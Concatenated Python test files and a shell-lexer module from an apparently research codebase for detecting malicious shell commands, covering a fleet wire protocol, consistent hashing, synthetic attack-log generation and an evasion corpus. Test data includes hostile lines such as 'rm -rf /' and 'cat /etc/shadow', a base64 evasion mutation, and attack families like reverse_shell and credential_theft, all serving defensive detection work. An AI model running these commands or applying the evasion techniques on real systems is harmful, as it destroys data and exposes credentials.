        nack, ack, node = run(scenario())
        assert nack == {"type": "nack", "batch_id": 7, "reason": "draining"}
        assert ack["type"] == "ack"
        # the nacked batch really was untouched: only batch 8 was ingested
        assert node.events_ingested == 1 and node.nacks == 1


class TestHeartbeat:
    def test_heartbeat_carries_vitals(self):
        async def scenario():
            node = await start_node()
            try:
                await one_round_trip(node, ingest_message(1, [("evil", "h", None)]))
                answer = await one_round_trip(node, heartbeat_message(17))
            finally:
                await node.stop()
            return answer, node

        answer, node = run(scenario())
        assert answer["type"] == "heartbeat_ack" and answer["seq"] == 17
        assert answer["node_id"] == node.node_id
        assert answer["generation"] == 0
        assert answer["draining"] is False
        assert answer["events_total"] == 1


class TestAdmin:
    def test_unknown_frames_and_verbs_answer_error(self):
        async def scenario():
            node = await start_node()
            try:
                bad_type = await one_round_trip(node, {"type": "gibberish"})
                bad_verb = await one_round_trip(node, admin_message("explode"))
                # and the connection survives a bad frame: ask again
                ping = await one_round_trip(node, admin_message("ping"))
            finally:
                await node.stop()
            return bad_type, bad_verb, ping

        bad_type, bad_verb, ping = run(scenario())
        assert bad_type["type"] == "error" and "unknown frame type" in bad_type["error"]
        assert bad_verb["type"] == "error" and "unknown admin verb" in bad_verb["error"]
        assert ping["ok"] is True

    def test_status_includes_metrics_snapshot(self):
        async def scenario():
            node = await start_node()
            try:
                await one_round_trip(node, ingest_message(1, [("evil", "h", None)]))
                status = await one_round_trip(node, admin_message("status"))
            finally:
                await node.stop()
            return status

        status = run(scenario())
        assert status["ok"] is True
        assert status["generation"] == 0
        assert status["events_ingested"] == 1
        assert status["metrics"]["events_total"] == 1

    def test_swap_rotates_generation(self):
        swapped_in = StubService()

        async def scenario():
            node = await start_node(swap_resolver=lambda ref: {"service": swapped_in})
            try:
                answer = await one_round_trip(
                    node, admin_message("swap", bundle="new", expect_generation=0)
                )
                heartbeat = await one_round_trip(node, heartbeat_message(1))
            finally:
                await node.stop()
            return answer, heartbeat

        answer, heartbeat = run(scenario())
        assert answer["ok"] is True and answer["generation"] == 1
        assert heartbeat["generation"] == 1

    def test_swap_generation_fence_refuses_stale_caller(self):
        async def scenario():
            node = await start_node(swap_resolver=lambda ref: {"service": StubService()})
            try:
                first = await one_round_trip(
                    node, admin_message("swap", bundle="a", expect_generation=0)
                )
                # a duplicated/retried command still fenced on 0 must be refused
                stale = await one_round_trip(
                    node, admin_message("swap", bundle="a", expect_generation=0)
                )
            finally:
                await node.stop()
            return first, stale, node

        first, stale, node = run(scenario())
        assert first["ok"] is True
        assert stale["ok"] is False and "generation fence" in stale["error"]
        assert node.server.generation == 1  # the retry did not double-rotate

    def test_resize_refused_on_inline_backend(self):
        async def scenario():
            node = await start_node()
            try:
                answer = await one_round_trip(node, admin_message("resize", workers=3))
            finally:
                await node.stop()
            return answer

        answer = run(scenario())
        assert answer["ok"] is False and "cannot resize" in answer["error"]

    def test_resize_validates_workers(self):
        async def scenario():
            node = await start_node()
            try:
                answer = await one_round_trip(node, admin_message("resize", workers=0))
            finally:
                await node.stop()
            return answer

        answer = run(scenario())
        assert answer["type"] == "error" and "workers" in answer["error"]


class TestSyncChannel:
    def test_fleet_channel_round_trips_from_a_thread(self):
        """The blocking CLI channel works against a live asyncio node."""

        async def scenario():
            node = await start_node()

            def admin_status():
                with FleetChannel(node.host, node.port) as channel:
                    ping = channel.request(admin_message("ping"))
                    status = channel.request(admin_message("status"))
                return ping, status

            try:
                ping, status = await asyncio.to_thread(admin_status)
            finally:
                await node.stop()
            return ping, status

        ping, status = run(scenario())
        assert ping["ok"] is True and ping["verb"] == "ping"
        assert status["verb"] == "status" and "metrics" in status
