"""HashRing unit tests: determinism, spread, minimal reassignment.

The ring lives in :mod:`repro.serving.ring` because both layers use
it — the in-process shard router and the fleet's node router — but its
membership-churn properties matter most to the fleet, so they are
proven here.
"""

import pytest

from repro.serving.ring import HashRing, ring_point

HOSTS = [f"host-{index:03d}" for index in range(400)]


class TestBasics:
    def test_route_is_deterministic(self):
        ring = HashRing(["a:1", "b:2", "c:3"])
        again = HashRing(["a:1", "b:2", "c:3"])
        assert [ring.route(h) for h in HOSTS] == [again.route(h) for h in HOSTS]

    def test_member_order_is_irrelevant(self):
        forward = HashRing(["a:1", "b:2", "c:3"])
        backward = HashRing(["c:3", "b:2", "a:1"])
        assert [forward.route(h) for h in HOSTS] == [backward.route(h) for h in HOSTS]

    def test_single_member_takes_everything(self):
        ring = HashRing(["only:1"])
        assert all(ring.route(h) == "only:1" for h in HOSTS[:50])

    def test_every_member_gets_traffic(self):
        ring = HashRing(["a:1", "b:2", "c:3"])
        spread = ring.spread(HOSTS)
        assert set(spread) == {"a:1", "b:2", "c:3"}
        assert all(count > len(HOSTS) * 0.1 for count in spread.values())

    def test_membership_and_len(self):
        ring = HashRing(["a:1", "b:2"])
        assert "a:1" in ring and "missing:9" not in ring and len(ring) == 2

    def test_duplicates_deduped_order_preserved(self):
        assert len(HashRing(["a:1", "a:1", "b:2"])) == 2

    def test_rejects_empty_and_bad_members(self):
        with pytest.raises(ValueError):
            HashRing([])
        with pytest.raises(ValueError):
            HashRing([""])
        with pytest.raises(ValueError):
            HashRing([42])

    def test_ring_point_is_blake2b(self):
        import hashlib

        expected = int.from_bytes(
            hashlib.blake2b(b"key", digest_size=8).digest(), "big"
        )
        assert ring_point("key") == expected


class TestChurn:
    def test_removal_moves_only_the_removed_members_keys(self):
        """The consistent-hashing contract: losing one of N members
        reassigns only that member's keys (~1/N), never reshuffles."""
        ring = HashRing(["a:1", "b:2", "c:3"])
        before = {h: ring.route(h) for h in HOSTS}
        smaller = ring.without("b:2")
        after = {h: smaller.route(h) for h in HOSTS}
        moved = {h for h in HOSTS if before[h] != after[h]}
        assert moved == {h for h, owner in before.items() if owner == "b:2"}
        assert 0 < len(moved) < len(HOSTS) / 2  # ~1/3, never a reshuffle

    def test_extension_only_steals_for_the_new_member(self):
        ring = HashRing(["a:1", "b:2"])
        before = {h: ring.route(h) for h in HOSTS}
        bigger = ring.extend(["c:3"])
        after = {h: bigger.route(h) for h in HOSTS}
        moved = {h for h in HOSTS if before[h] != after[h]}
        assert moved and all(after[h] == "c:3" for h in moved)

    def test_without_rejects_unknown_and_last_member(self):
        ring = HashRing(["a:1"])
        with pytest.raises(ValueError):
            ring.without("ghost:9")
        with pytest.raises(ValueError):
            ring.without("a:1")  # a ring cannot become empty

    def test_without_then_extend_round_trips(self):
        ring = HashRing(["a:1", "b:2", "c:3"])
        rebuilt = ring.without("b:2").extend(["b:2"])
        assert [ring.route(h) for h in HOSTS] == [rebuilt.route(h) for h in HOSTS]
