"""Wire-protocol unit tests: framing, corruption, message helpers."""

import asyncio

import pytest

from repro.errors import FleetError
from repro.fleet import protocol
from repro.fleet.protocol import (
    MAX_FRAME_BYTES,
    ack_message,
    decode_events,
    encode_frame,
    error_message,
    heartbeat_message,
    ingest_message,
    nack_message,
    read_frame,
)


def feed(*chunks: bytes) -> asyncio.StreamReader:
    # must run inside the event loop read_frame runs in
    reader = asyncio.StreamReader()
    for chunk in chunks:
        reader.feed_data(chunk)
    reader.feed_eof()
    return reader


def run(coro):
    return asyncio.run(coro)


def read_one(*chunks: bytes):
    async def scenario():
        return await read_frame(feed(*chunks))

    return run(scenario())


class TestFraming:
    def test_round_trip(self):
        message = ingest_message(7, [("rm -rf /", "web-01", 12.5), ("ls", "db-02", None)])
        frame = encode_frame(message)
        # header is the ASCII payload length, payload ends in newline
        header, _, rest = frame.partition(b"\n")
        assert int(header) == len(rest) - 1 and rest.endswith(b"\n")
        assert read_one(frame) == message

    def test_many_frames_on_one_stream(self):
        messages = [heartbeat_message(seq) for seq in range(5)]
        stream = b"".join(encode_frame(m) for m in messages)

        async def read_all():
            reader = feed(stream)
            seen = []
            while True:
                message = await read_frame(reader)
                if message is None:
                    return seen
                seen.append(message)

        assert run(read_all()) == messages

    def test_clean_eof_is_none(self):
        assert read_one(b"") is None

    def test_truncated_payload_raises(self):
        frame = encode_frame(error_message("boom"))
        with pytest.raises(FleetError, match="truncated"):
            read_one(frame[:-4])

    def test_malformed_header_raises(self):
        with pytest.raises(FleetError, match="malformed frame header"):
            read_one(b"not-a-length\n{}\n")

    def test_oversized_length_rejected_before_buffering(self):
        with pytest.raises(FleetError, match="outside"):
            read_one(b"%d\nx\n" % (MAX_FRAME_BYTES + 1))

    def test_payload_must_be_typed_object(self):
        payload = b'{"no_type":1}'
        frame = b"%d\n%s\n" % (len(payload), payload)
        with pytest.raises(FleetError, match="'type'"):
            read_one(frame)

    def test_missing_trailing_newline_is_corrupt(self):
        payload = b'{"type":"x"}'
        frame = b"%d\n%sX" % (len(payload), payload)  # X where \n must be
        with pytest.raises(FleetError, match="not terminated"):
            read_one(frame)

    def test_oversized_outbound_frame_refused(self):
        huge = ingest_message(1, [("x" * (MAX_FRAME_BYTES + 10), "h", None)])
        with pytest.raises(FleetError, match="split the batch"):
            encode_frame(huge)


class TestMessages:
    def test_ingest_events_round_trip(self):
        events = [("cat /etc/shadow", "web-01", 3.5), ("ls -la", "-", None)]
        assert decode_events(ingest_message(1, events)) == events

    def test_decode_events_rejects_malformed_entries(self):
        with pytest.raises(FleetError, match="malformed ingest event"):
            decode_events({"type": "ingest", "events": [["line", "host"]]})
        with pytest.raises(FleetError, match="events array"):
            decode_events({"type": "ingest"})

    def test_ack_and_nack_shape(self):
        ack = ack_message(9, events=4, dropped=1, intrusions=2, alerts=2, generations=[3])
        assert ack["type"] == "ack" and ack["generations"] == [3]
        nack = nack_message(9, "draining")
        assert nack["type"] == "nack" and nack["reason"] == "draining"

    def test_protocol_version_exported(self):
        assert protocol.PROTOCOL_VERSION == 1
