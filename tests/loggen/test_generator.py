"""Tests for the synthetic telemetry generator."""

from datetime import datetime, timedelta

import numpy as np
import pytest

from repro.errors import ConfigError, DataError
from repro.loggen import (
    ATTACK_FAMILIES,
    AttackSampler,
    BenignSessionGenerator,
    CommandDataset,
    FleetConfig,
    FleetSimulator,
    LogRecord,
    ROLE_MODELS,
    TemplateFiller,
    TypoInjector,
    Variant,
    generate_paper_split,
)
from repro.shell import is_valid_command_line


@pytest.fixture(scope="module")
def small_fleet():
    sim = FleetSimulator(FleetConfig(seed=42, attack_session_rate=0.05))
    return sim.generate(datetime(2022, 5, 1), days=2, target_lines=2000)


class TestBenignGeneration:
    def test_all_roles_have_models(self):
        assert set(ROLE_MODELS) == {"developer", "devops", "data_scientist", "sysadmin", "db_admin"}

    def test_sessions_are_nonempty(self):
        generator = BenignSessionGenerator(np.random.default_rng(0))
        for role in ROLE_MODELS:
            plan = generator.generate(role, "u01")
            assert len(plan.lines) >= 1
            assert plan.scenario.startswith(f"benign.{role}")

    def test_unknown_role_raises(self):
        with pytest.raises(KeyError):
            BenignSessionGenerator(np.random.default_rng(0)).generate("pirate", "u01")

    def test_templates_fill_placeholders(self):
        filler = TemplateFiller(np.random.default_rng(0))
        line = filler.fill("ls -la {dir}/{file}", user="bob")
        assert "{" not in line

    def test_abnormal_mv_has_many_files(self):
        filler = TemplateFiller(np.random.default_rng(0))
        line = filler.abnormal_benign_mv(n_files=20)
        assert line.startswith("mv ")
        assert line.count(".csv") == 20

    def test_abnormal_echo_is_long_and_weird(self):
        filler = TemplateFiller(np.random.default_rng(0))
        line = filler.abnormal_benign_echo(length=60)
        assert line.startswith("echo ")
        assert set(line[5:]) <= set("abc")

    def test_most_benign_lines_parse(self):
        generator = BenignSessionGenerator(np.random.default_rng(1))
        lines = []
        for _ in range(50):
            for role in ROLE_MODELS:
                lines.extend(generator.generate(role, "u01").lines)
        valid = sum(is_valid_command_line(line) for line in lines)
        assert valid / len(lines) > 0.98


class TestAttackLibrary:
    def test_every_family_has_both_variants(self):
        for family in ATTACK_FAMILIES:
            assert family.inbox and family.outbox

    def test_sampler_fills_placeholders(self):
        sampler = AttackSampler(np.random.default_rng(0))
        for family in ATTACK_FAMILIES:
            for inbox in (True, False):
                for line in sampler.sample(family.name, inbox=inbox):
                    assert "{host}" not in line and "{port}" not in line

    def test_attack_lines_parse(self):
        sampler = AttackSampler(np.random.default_rng(0))
        for family in ATTACK_FAMILIES:
            for inbox in (True, False):
                for _ in range(5):
                    for line in sampler.sample(family.name, inbox=inbox):
                        assert is_valid_command_line(line), line

    def test_argument_diversity(self):
        sampler = AttackSampler(np.random.default_rng(0))
        lines = {sampler.sample("reverse_shell", inbox=True)[0] for _ in range(100)}
        assert len(lines) > 30

    def test_sample_any_respects_family_filter(self):
        sampler = AttackSampler(np.random.default_rng(0))
        family, _ = sampler.sample_any(inbox=True, families=["port_scan"])
        assert family == "port_scan"


class TestTypos:
    def test_typo_changes_command_name(self):
        injector = TypoInjector(np.random.default_rng(0))
        corrupted = injector.typo_command_name("docker ps -a")
        name = corrupted.split()[0]
        assert name != "docker"
        assert corrupted.endswith("ps -a")

    def test_short_names_left_alone(self):
        injector = TypoInjector(np.random.default_rng(0))
        assert injector.typo_command_name("ls -la") == "ls -la"

    def test_garbage_lines_fail_parsing(self):
        injector = TypoInjector(np.random.default_rng(0))
        for _ in range(20):
            assert not is_valid_command_line(injector.garbage_line())

    def test_maybe_corrupt_probabilities(self):
        injector = TypoInjector(np.random.default_rng(0))
        outputs = [injector.maybe_corrupt("docker ps", 0.0, 0.0) for _ in range(50)]
        assert all(line == "docker ps" for line in outputs)


class TestFleetSimulator:
    def test_reaches_target_lines(self, small_fleet):
        assert len(small_fleet) >= 2000

    def test_sorted_by_time(self, small_fleet):
        stamps = small_fleet.timestamps()
        assert all(a <= b for a, b in zip(stamps, stamps[1:]))

    def test_attack_lines_marked_malicious(self, small_fleet):
        for record in small_fleet:
            if record.scenario.startswith("attack."):
                assert record.is_malicious
                assert record.variant in (Variant.INBOX, Variant.OUTBOX)
            else:
                assert not record.is_malicious

    def test_sessions_share_user_and_machine(self, small_fleet):
        by_session = {}
        for record in small_fleet:
            by_session.setdefault(record.session, []).append(record)
        for records in by_session.values():
            assert len({r.user for r in records}) == 1
            assert len({r.machine for r in records}) == 1

    def test_deterministic_given_seed(self):
        a = FleetSimulator(FleetConfig(seed=5)).generate(datetime(2022, 5, 1), 1, 300)
        b = FleetSimulator(FleetConfig(seed=5)).generate(datetime(2022, 5, 1), 1, 300)
        assert a.lines() == b.lines()

    def test_different_seeds_differ(self):
        a = FleetSimulator(FleetConfig(seed=5)).generate(datetime(2022, 5, 1), 1, 300)
        b = FleetSimulator(FleetConfig(seed=6)).generate(datetime(2022, 5, 1), 1, 300)
        assert a.lines() != b.lines()

    def test_zero_attack_rate_means_all_benign(self):
        sim = FleetSimulator(FleetConfig(seed=1, attack_session_rate=0.0))
        data = sim.generate(datetime(2022, 5, 1), 1, 500)
        assert data.n_malicious() == 0

    def test_timestamps_inside_window(self, small_fleet):
        start = datetime(2022, 5, 1)
        end = start + timedelta(days=2, minutes=30)
        assert all(start <= t <= end for t in small_fleet.timestamps())

    def test_config_validation(self):
        with pytest.raises(ConfigError):
            FleetConfig(n_users=0)
        with pytest.raises(ConfigError):
            FleetConfig(attack_session_rate=1.5)
        sim = FleetSimulator(FleetConfig(seed=0))
        with pytest.raises(ConfigError):
            sim.generate(datetime(2022, 5, 1), 0, 100)

    def test_paper_split_windows(self):
        train, test = generate_paper_split(train_lines=600, test_lines=300)
        assert min(train.timestamps()) >= datetime(2022, 5, 1)
        assert max(train.timestamps()) <= datetime(2022, 5, 8, 1)
        assert min(test.timestamps()) >= datetime(2022, 5, 29)


class TestCommandDataset:
    def test_jsonl_roundtrip(self, small_fleet, tmp_path):
        path = tmp_path / "data.jsonl"
        small_fleet.to_jsonl(path)
        restored = CommandDataset.from_jsonl(path)
        assert restored.lines() == small_fleet.lines()
        assert (restored.labels() == small_fleet.labels()).all()
        assert restored.variants() == small_fleet.variants()

    def test_malformed_jsonl_raises(self, tmp_path):
        path = tmp_path / "bad.jsonl"
        path.write_text('{"line": "ls"}\n')
        with pytest.raises(DataError):
            CommandDataset.from_jsonl(path)

    def test_deduplicated_keeps_first(self):
        records = [
            LogRecord("ls", "u1", "m1", datetime(2022, 5, 1), is_malicious=False),
            LogRecord("ls", "u2", "m2", datetime(2022, 5, 2), is_malicious=True),
        ]
        dedup = CommandDataset(records).deduplicated()
        assert len(dedup) == 1
        assert dedup[0].user == "u1"

    def test_split_by_date(self, small_fleet):
        boundary = datetime(2022, 5, 2)
        before, after = small_fleet.split_by_date(boundary)
        assert len(before) + len(after) == len(small_fleet)
        assert all(r.timestamp < boundary for r in before)

    def test_filter_and_subset(self, small_fleet):
        malicious = small_fleet.filter(lambda r: r.is_malicious)
        assert all(r.is_malicious for r in malicious)
        subset = small_fleet.subset([0, 1, 2])
        assert len(subset) == 3

    def test_sample_too_large_raises(self):
        data = CommandDataset([LogRecord("ls", "u", "m", datetime(2022, 5, 1))])
        with pytest.raises(DataError):
            data.sample(5, np.random.default_rng(0))

    def test_summary_keys(self, small_fleet):
        summary = small_fleet.summary()
        assert {"records", "users", "machines", "malicious", "inbox", "outbox", "unique_lines"} <= set(summary)

    def test_merged_with(self, small_fleet):
        merged = small_fleet.merged_with(small_fleet)
        assert len(merged) == 2 * len(small_fleet)
