"""Tests for corpus statistics (the DESIGN.md §2 property checks)."""

from datetime import datetime

import pytest

from repro.loggen import CommandDataset, FleetConfig, FleetSimulator, corpus_stats, fit_zipf_alpha


@pytest.fixture(scope="module")
def fleet_data():
    sim = FleetSimulator(FleetConfig(seed=8, attack_session_rate=0.03))
    return sim.generate(datetime(2022, 5, 1), 2, 4000)


class TestZipfFit:
    def test_perfect_zipf_recovers_alpha(self):
        counts = [int(1000 / rank) for rank in range(1, 31)]
        assert fit_zipf_alpha(counts) == pytest.approx(1.0, abs=0.05)

    def test_uniform_counts_give_zero(self):
        assert fit_zipf_alpha([10] * 20) == pytest.approx(0.0, abs=1e-9)

    def test_degenerate_inputs(self):
        assert fit_zipf_alpha([]) == 0.0
        assert fit_zipf_alpha([5]) == 0.0


class TestCorpusStats:
    def test_generator_matches_design_claims(self, fleet_data):
        stats = corpus_stats(fleet_data)
        # Zipf-like head (production command logs have alpha around 1)
        assert 0.5 < stats.zipf_alpha < 2.5
        # heavy duplication motivating the paper's test-set dedup
        assert stats.duplicate_fraction > 0.3
        # rare anomalies
        assert 0.0 < stats.malicious_fraction < 0.05
        # session structure for multi-line classification
        assert stats.mean_session_length > 1.5
        assert stats.n_sessions > 100

    def test_top_commands_are_shell_staples(self, fleet_data):
        stats = corpus_stats(fleet_data)
        head = {name for name, _ in stats.top_commands[:5]}
        assert head & {"cd", "ls", "echo", "sudo", "cat", "grep"}

    def test_empty_dataset(self):
        stats = corpus_stats(CommandDataset([]))
        assert stats.n_lines == 0
        assert stats.malicious_fraction == 0.0

    def test_counts_consistent(self, fleet_data):
        stats = corpus_stats(fleet_data)
        assert stats.n_unique_lines <= stats.n_lines
        assert 0.0 <= stats.duplicate_fraction <= 1.0
