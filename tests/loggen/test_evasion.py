"""Tests for the adversarial evasion corpus and campaign builder."""

import numpy as np
import pytest

from repro.loggen import (
    ATTACK_FAMILIES,
    CAMPAIGN_STAGES,
    EVASION_TECHNIQUES,
    CampaignBuilder,
    EvasionMutator,
    build_evasion_corpus,
)
from repro.preprocess import Canonicalizer


class TestEvasionMutator:
    def setup_method(self):
        self.mutator = EvasionMutator(rng=np.random.default_rng(0))

    def test_variants_are_verified_against_canonicalizer(self):
        line = "cat /etc/shadow"
        canonical = self.mutator.canonical(line)
        pairs = self.mutator.variants(line)
        assert pairs
        canonicalizer = Canonicalizer()
        for technique, variant in pairs:
            assert technique in EVASION_TECHNIQUES
            assert variant != line
            assert canonicalizer.canonicalize(variant).text == canonical

    def test_all_techniques_apply_to_a_simple_line(self):
        techniques = {t for t, _ in self.mutator.variants("cat /etc/shadow")}
        assert techniques == set(EVASION_TECHNIQUES)

    def test_mutate_specific_technique(self):
        mutated = self.mutator.mutate("cat /etc/shadow", "base64")
        assert mutated is not None
        technique, variant = mutated
        assert technique == "base64"
        assert "base64" in variant

    def test_mutate_unparseable_base_returns_none(self):
        assert self.mutator.mutate("echo 'oops") is None

    def test_unknown_technique_raises(self):
        with pytest.raises(ValueError):
            self.mutator._candidates("ls", "nonsense")


class TestCorpus:
    def test_corpus_covers_every_family_and_technique(self):
        cases = build_evasion_corpus(seed=0)
        assert {case.family for case in cases} == {f.name for f in ATTACK_FAMILIES}
        assert {case.technique for case in cases} == set(EVASION_TECHNIQUES)
        assert len(cases) > 100

    def test_corpus_is_deterministic(self):
        first = build_evasion_corpus(seed=7)
        second = build_evasion_corpus(seed=7)
        assert first == second

    def test_every_case_pair_shares_its_canonical_form(self):
        canonicalizer = Canonicalizer()
        for case in build_evasion_corpus(seed=0, families=["credential_theft"]):
            assert canonicalizer.canonicalize(case.base).text == case.canonical
            assert canonicalizer.canonicalize(case.variant).text == case.canonical
            assert case.variant != case.base

    def test_family_filter(self):
        cases = build_evasion_corpus(seed=0, families=["port_scan"])
        assert cases
        assert {case.family for case in cases} == {"port_scan"}

    def test_inbox_outbox_filters(self):
        inbox_only = build_evasion_corpus(seed=0, outbox=False)
        assert all(case.inbox for case in inbox_only)
        outbox_only = build_evasion_corpus(seed=0, inbox=False)
        assert all(not case.inbox for case in outbox_only)


class TestCampaignBuilder:
    def test_campaign_walks_every_stage_in_order(self):
        campaign = CampaignBuilder(seed=1).build_one("c", "victim")
        stages = [step.stage for step in campaign.steps]
        expected_order = [stage for stage, _ in CAMPAIGN_STAGES]
        # stage blocks appear in declaration order (each may span
        # several steps — one per line of the sampled session)
        seen = []
        for stage in stages:
            if not seen or seen[-1] != stage:
                seen.append(stage)
        assert seen == expected_order
        for step in campaign.steps:
            pool = dict(CAMPAIGN_STAGES)[step.stage]
            assert step.family in pool

    def test_evaded_steps_canonicalize_to_their_base(self):
        canonicalizer = Canonicalizer()
        campaign = CampaignBuilder(seed=2).build_one("c", "victim")
        assert any(step.technique is not None for step in campaign.steps)
        for step in campaign.steps:
            assert canonicalizer.canonicalize(step.line).text == step.canonical

    def test_no_evade_mode_emits_bases(self):
        campaign = CampaignBuilder(seed=3, evade=False).build_one("c", "victim")
        for step in campaign.steps:
            assert step.technique is None
            assert step.line == step.base

    def test_build_assigns_distinct_hosts(self):
        campaigns = CampaignBuilder(seed=0).build(3)
        assert len({campaign.host for campaign in campaigns}) == 3
        assert [campaign.name for campaign in campaigns] == [
            "campaign-0",
            "campaign-1",
            "campaign-2",
        ]

    def test_lines_property_matches_steps(self):
        campaign = CampaignBuilder(seed=4).build_one("c", "victim")
        assert campaign.lines == [step.line for step in campaign.steps]
