"""Property-based tests for the telemetry generator."""

from datetime import datetime

import numpy as np
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.loggen import ATTACK_FAMILIES, AttackSampler, FleetConfig, FleetSimulator, Variant

family_names = st.sampled_from([f.name for f in ATTACK_FAMILIES])
seeds = st.integers(min_value=0, max_value=10_000)


@given(family_names, st.booleans(), seeds)
@settings(max_examples=80, deadline=None)
def test_attack_sessions_are_nonempty_and_filled(family, inbox, seed):
    sampler = AttackSampler(np.random.default_rng(seed))
    lines = sampler.sample(family, inbox=inbox)
    assert lines
    for line in lines:
        assert "{" not in line.replace("{echo,", "").replace("{base64,", "").replace(
            "{bash,", ""
        ).replace("{base,", "").replace("{ cat", "").replace("{}", ""), line


@given(seeds)
@settings(max_examples=10, deadline=None)
def test_fleet_generation_invariants(seed):
    config = FleetConfig(seed=seed, n_users=10, n_machines=20, attack_session_rate=0.1)
    data = FleetSimulator(config).generate(datetime(2022, 5, 1), 1, 300)
    # time ordering
    stamps = data.timestamps()
    assert all(a <= b for a, b in zip(stamps, stamps[1:]))
    # malicious <=> attack scenario <=> non-benign variant
    for record in data:
        assert record.is_malicious == record.scenario.startswith("attack.")
        assert record.is_malicious == (record.variant is not Variant.BENIGN)
        assert record.user.startswith("u")
        assert record.machine.startswith("m")
        assert record.session


@given(seeds, st.floats(min_value=0.0, max_value=0.5))
@settings(max_examples=10, deadline=None)
def test_outbox_fraction_controls_variant_mix(seed, outbox_fraction):
    config = FleetConfig(seed=seed, attack_session_rate=0.3, outbox_fraction=outbox_fraction)
    data = FleetSimulator(config).generate(datetime(2022, 5, 1), 1, 400)
    counts = data.variant_counts()
    inbox = counts.get(Variant.INBOX, 0)
    outbox = counts.get(Variant.OUTBOX, 0)
    if outbox_fraction == 0.0:
        assert outbox == 0
    if inbox + outbox > 30:
        measured = outbox / (inbox + outbox)
        assert abs(measured - outbox_fraction) < 0.3


@given(seeds)
@settings(max_examples=10, deadline=None)
def test_dedup_idempotent(seed):
    config = FleetConfig(seed=seed, n_users=5)
    data = FleetSimulator(config).generate(datetime(2022, 5, 1), 1, 200)
    once = data.deduplicated()
    twice = once.deduplicated()
    assert once.lines() == twice.lines()
