"""A lexer for POSIX-style shell command lines.

The lexer converts a raw command line into a stream of :class:`Token`
objects.  It understands the quoting and expansion syntax that matters
for deciding *word boundaries* — single quotes, double quotes, backslash
escapes, ``$(...)`` / backtick command substitution, ``${...}`` parameter
expansion and ``$((...))`` arithmetic — without performing any actual
expansion.  Its job is purely syntactic: produce the same token
boundaries a real shell (or ``bashlex``) would.

Unterminated quotes or substitutions raise
:class:`~repro.errors.ShellSyntaxError`, which the pre-processing
pipeline uses to discard un-executable lines (Section II-A of the
paper).
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field

from repro.errors import ShellSyntaxError
from repro.shell import chars


class TokenKind(enum.Enum):
    """Lexical category of a :class:`Token`."""

    WORD = "word"
    OPERATOR = "operator"
    IO_NUMBER = "io_number"
    COMMENT = "comment"
    EOF = "eof"


@dataclass(frozen=True)
class Token:
    """A single lexical token.

    Attributes
    ----------
    kind:
        The :class:`TokenKind` of the token.
    value:
        The raw text of the token, quotes and escapes preserved.
    position:
        Character offset of the token's first character in the input.
    parts:
        For ``WORD`` tokens, the list of quoted/unquoted segments that
        make up the word (useful for analyses that need to know whether
        text was quoted).
    """

    kind: TokenKind
    value: str
    position: int
    parts: tuple["WordPart", ...] = field(default_factory=tuple)

    def is_operator(self, *values: str) -> bool:
        """Return ``True`` when this token is an operator in *values*."""
        return self.kind is TokenKind.OPERATOR and (not values or self.value in values)


@dataclass(frozen=True)
class WordPart:
    """A segment of a word with its quoting context.

    ``quote`` is one of ``""`` (unquoted), ``"'"``, ``'"'``, ``"$("``,
    ``"`"``, ``"${"`` or ``"$(("`` describing how the segment was
    enclosed in the original text.
    """

    text: str
    quote: str


class _Scanner:
    """Stateful character scanner shared by the lexing routines."""

    def __init__(self, text: str):
        self.text = text
        self.pos = 0

    def peek(self, offset: int = 0) -> str:
        index = self.pos + offset
        return self.text[index] if index < len(self.text) else ""

    def advance(self, count: int = 1) -> str:
        value = self.text[self.pos : self.pos + count]
        self.pos += count
        return value

    @property
    def exhausted(self) -> bool:
        return self.pos >= len(self.text)


class Lexer:
    """Tokenize shell command lines.

    Example
    -------
    >>> [t.value for t in Lexer().tokenize("ls -la | grep foo")]
    ['ls', '-la', '|', 'grep', 'foo']
    """

    def tokenize(self, line: str) -> list[Token]:
        """Tokenize *line* into a list of tokens (without the EOF token).

        Raises
        ------
        ShellSyntaxError
            If a quote, command substitution, or parameter expansion is
            left unterminated.
        """
        scanner = _Scanner(line)
        tokens: list[Token] = []
        while not scanner.exhausted:
            ch = scanner.peek()
            if chars.is_blank(ch) or ch == "\n":
                scanner.advance()
                continue
            if ch == "#" and self._at_word_boundary(tokens, scanner):
                start = scanner.pos
                comment = scanner.advance(len(scanner.text) - scanner.pos)
                tokens.append(Token(TokenKind.COMMENT, comment, start))
                continue
            if ch in ("<", ">") and scanner.peek(1) == "(":
                # process substitution <(cmd) / >(cmd): lexes as one word
                tokens.append(self._lex_word(scanner))
                continue
            operator = chars.match_operator(scanner.text, scanner.pos)
            if operator is not None:
                start = scanner.pos
                scanner.advance(len(operator))
                tokens.append(Token(TokenKind.OPERATOR, operator, start))
                if operator in ("<<", "<<-"):
                    self._consume_heredoc_body(scanner, tokens)
                continue
            token = self._lex_word(scanner)
            # A bare digit string immediately followed by < or > is an
            # IO number (file-descriptor prefix), e.g. ``2>``.
            if token.value.isdigit() and scanner.peek() in ("<", ">"):
                token = Token(TokenKind.IO_NUMBER, token.value, token.position)
            tokens.append(token)
        return tokens

    @staticmethod
    def _at_word_boundary(tokens: list[Token], scanner: _Scanner) -> bool:
        """Comments only start when preceded by whitespace or line start."""
        if scanner.pos == 0:
            return True
        return chars.is_blank(scanner.text[scanner.pos - 1])

    def _consume_heredoc_body(self, scanner: _Scanner, tokens: list[Token]) -> None:
        """Consume a here-document delimiter word (body handling is lexical).

        Single-line logs rarely carry heredoc bodies; we lex the delimiter
        word so parsing can continue, treating the rest of the line
        normally (matching how ``bashlex`` treats one-line input).
        """
        while chars.is_blank(scanner.peek()):
            scanner.advance()
        if scanner.exhausted or chars.match_operator(scanner.text, scanner.pos):
            raise ShellSyntaxError("here-document requires a delimiter word", scanner.pos, scanner.text)
        tokens.append(self._lex_word(scanner))

    def _lex_word(self, scanner: _Scanner) -> Token:
        """Lex one word, honouring quotes, escapes and substitutions."""
        start = scanner.pos
        raw: list[str] = []
        parts: list[WordPart] = []
        while not scanner.exhausted:
            ch = scanner.peek()
            if ch in ("<", ">") and scanner.peek(1) == "(":
                # process substitution embedded in (or starting) a word
                marker = scanner.advance()
                raw.append(marker)
                body = self._lex_balanced(scanner, raw, "(", ")", scanner.pos - 1)
                parts.append(WordPart(body, marker + "("))
                continue
            if chars.is_metacharacter(ch):
                break
            if ch == "\\":
                scanner.advance()
                if scanner.exhausted:
                    # Trailing backslash: line continuation in a real
                    # shell; in one-line logs we keep it literally.
                    raw.append("\\")
                    parts.append(WordPart("\\", ""))
                    break
                escaped = scanner.advance()
                raw.append("\\" + escaped)
